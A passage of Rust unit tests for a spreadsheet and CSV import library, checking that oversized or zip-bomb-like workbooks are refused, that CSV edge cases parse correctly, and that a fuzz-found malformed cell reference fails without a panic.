        let message = e.errors[0].message(gongzhi_core::Lang::Zh);
        assert!(message.contains("工作簿过大"), "{message}");
    }

    #[test]
    fn a_tiny_workbook_that_spans_a_huge_sheet_is_read_cell_by_cell_or_refused() {
        // Found by fuzzing: reading a sheet as one rectangle allocated from its first to its last
        // cell; A1 and XFD1048576 made seventeen billion cells out of a 6 KB file.
        let mut book = Workbook::new();
        let ws = book.add_worksheet();
        ws.write_string(0, 0, "姓名").unwrap();
        ws.write_string(1_048_575, 16_383, "尾").unwrap();
        let bytes = book.save_to_buffer().unwrap();
        assert!(bytes.len() < 10_000);
        let rows = read_rows("远.xlsx", &bytes).unwrap();
        assert_eq!(rows.len(), 1_048_576);
        assert_eq!(rows[1_048_575].len(), 16_384);
        assert_eq!(rows[1_048_575][16_383], "尾");

        // Wide rows past the cell limit are refused, read whole or streamed.
        let mut book = Workbook::new();
        let ws = book.add_worksheet();
        let rows_needed = (MAX_SHEET_CELLS / u64::from(MAX_COLUMNS) + 2) as u32;
        for r in 0..rows_needed {
            ws.write_string(r, 16_383, "x").unwrap();
        }
        let bytes = book.save_to_buffer().unwrap();
        refused_as_too_big(read_rows("宽.xlsx", &bytes).unwrap_err());
        let p = Progress::new(0);
        refused_as_too_big(stream_rows("宽.xlsx", &bytes, &p, |_, _| ControlFlow::Continue(())).unwrap_err());
    }

    #[test]
    fn a_workbook_that_unpacks_past_the_limit_is_refused_before_reading() {
        let bytes = write_rows(Format::Xlsx, "s", &sample()).unwrap();
        assert!(read_rows("s.xlsx", &bytes).is_ok());
        // Declare one part (as a zip bomb would be) bigger than the limit in the archive's directory.
        let mut forged = bytes.clone();
        let at = forged.windows(4).position(|w| w == b"PK\x01\x02").unwrap();
        forged[at + 24..at + 28].copy_from_slice(&((MAX_XLSX_UNPACKED + 1) as u32).to_le_bytes());
        refused_as_too_big(read_rows("s.xlsx", &forged).unwrap_err());
        let p = Progress::new(0);
        refused_as_too_big(stream_rows("s.xlsx", &forged, &p, |_, _| ControlFlow::Continue(())).unwrap_err());
    }
}

#[cfg(test)]
mod csv_reader_tests {
    use std::ops::ControlFlow;

    use super::stream_rows;
    use gongzhi_core::import::Progress;

    fn rows(input: &[u8]) -> Vec<(usize, Vec<String>)> {
        let mut rows = Vec::new();
        stream_rows("x.csv", input, &Progress::new(input.len() as u64), |n, cells| {
            rows.push((n, cells.to_vec()));
            ControlFlow::Continue(())
        })
        .expect("reads");
        rows
    }

    #[test]
    fn a_reused_reader_reads_each_file_from_its_start() {
        let owned = |r: &[(usize, &[&str])]| -> Vec<(usize, Vec<String>)> {
            r.iter()
                .map(|(n, c)| (*n, c.iter().map(|s| s.to_string()).collect()))
                .collect()
        };
        assert_eq!(rows(b""), owned(&[]));
        assert_eq!(rows(b"a,b\n1,2"), owned(&[(1, &["a", "b"]), (2, &["1", "2"])]));
        // A file that stops inside a quoted field, then one read after it on the same thread.
        assert_eq!(rows(b"a,\"b\n"), owned(&[(1, &["a", "b"])]));
        assert_eq!(
            rows(b"x\r\n\r\n\"y \"\"z\"\"\",w\n"),
            owned(&[(1, &["x"]), (2, &["y \"z\"", "w"])])
        );
        assert_eq!(
            rows("\u{feff}表头\n值".as_bytes()),
            owned(&[(1, &["表头"]), (2, &["值"])])
        );
    }
}

#[cfg(test)]
mod fuzz_findings {
    use std::ops::ControlFlow;

    use gongzhi_core::import::Progress;

    /// A workbook whose sheet names a cell with more column letters than a `u32` holds (found by
    /// `cargo fuzz run import_xlsx`): refused by name, not a panic.
    #[test]
    fn a_cell_reference_too_long_for_the_sheet_is_refused_not_a_panic() {
        let bytes = include_bytes!("../../../fuzz/corpus/import_xlsx/overflowing-cell-reference.xlsx");
        let read = super::stream_rows("户.xlsx", bytes, &Progress::new(bytes.len() as u64), |_, _| {
            ControlFlow::Continue(())
        });
        let error = read.expect_err("refused");
        assert!(error.to_string().contains("户.xlsx"), "{error}");
        assert!(super::read_xlsx("户.xlsx", bytes).is_err());
    }
}
